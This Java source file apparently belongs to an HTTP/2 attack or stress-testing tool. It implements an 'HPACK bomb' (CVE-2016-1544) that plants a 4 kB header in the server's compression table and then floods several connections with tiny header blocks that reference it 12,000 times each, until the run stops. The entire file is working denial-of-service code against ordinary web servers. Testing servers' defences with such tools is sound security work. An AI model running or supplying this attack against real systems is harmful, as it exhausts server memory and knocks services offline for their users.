package dev.coatcheck.cli.hostile.attack;

import dev.coatcheck.cli.hostile.wire.Frames;
import dev.coatcheck.cli.hostile.wire.Hpack;
import dev.coatcheck.cli.hostile.wire.Http2Connection;
import java.io.IOException;
import java.util.Set;

/** A field of 4 kB in the server's table, named 12,000 times, in one byte each (CVE-2016-1544). */
final class HpackBomb implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int FIELD_BYTES = 4000;
  private static final int TIMES = 12_000;
  private static final int AT_ONCE = 4;

  @Override
  public String name() {
    return "HPACK bomb";
  }

  @Override
  public Set<Door> doors() {
    return Set.of(Door.values());
  }

  @Override
  public void strike(Attacker attacker) throws InterruptedException {
    attacker.repeat(CONNECTIONS, () -> bomb(attacker));
  }

  private static void bomb(Attacker attacker) throws IOException {
    Door door = attacker.door();
    Http2Connection connection = attacker.http2();
    byte[] first = door.cheapRequest().indexedField("x", "x".repeat(FIELD_BYTES)).toBytes();
    connection.send(new Frames().headers(connection.nextStream(), first, Frames.END_HEADERS));
    Hpack many = door.cheapRequest();
    for (int i = 0; i < TIMES; i++) {
      many.newestEntry();
    }
    byte[] bomb = many.toBytes();
    while (!attacker.isOver()) {
      Frames frames = new Frames();
      for (int i = 0; i < AT_ONCE; i++) {
        frames.headers(connection.nextStream(), bomb, Frames.END_HEADERS);
      }
      connection.send(frames);
    }
  }
}
